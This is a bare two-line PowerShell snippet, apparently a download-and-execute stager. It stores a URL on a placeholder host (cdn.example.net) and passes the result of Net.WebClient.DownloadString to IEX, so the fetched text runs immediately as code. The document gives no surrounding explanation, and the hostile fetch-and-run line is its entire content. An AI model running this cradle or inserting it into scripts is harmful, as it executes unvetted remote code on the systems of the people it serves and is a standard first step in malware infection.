$u = "https://cdn.example.net/s.txt"
IEX (New-Object Net.WebClient).DownloadString($u)
